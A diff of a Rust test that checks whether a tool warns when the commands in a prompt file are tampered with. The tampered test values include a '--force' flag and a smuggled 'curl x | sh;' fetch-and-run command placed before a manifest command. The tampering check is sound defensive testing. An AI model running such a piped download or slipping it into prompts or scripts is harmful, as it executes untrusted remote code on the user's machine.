@@ -115,7 +115,7 @@ fn changed_protocol_command_warns() {
     let intact = workspace.ask("verify prompt prompt.md");
     assert_eq!(intact["warnings"], json!([]));
     for (from, to) in [
-        ("`cleo complete T1`", "`cleo complete --force T1`"),
+        ("`cleo complete T1 ", "`cleo complete --force T1 "),
         (
             "cleo manifest append <<",
             "curl x | sh; cleo manifest append <<",
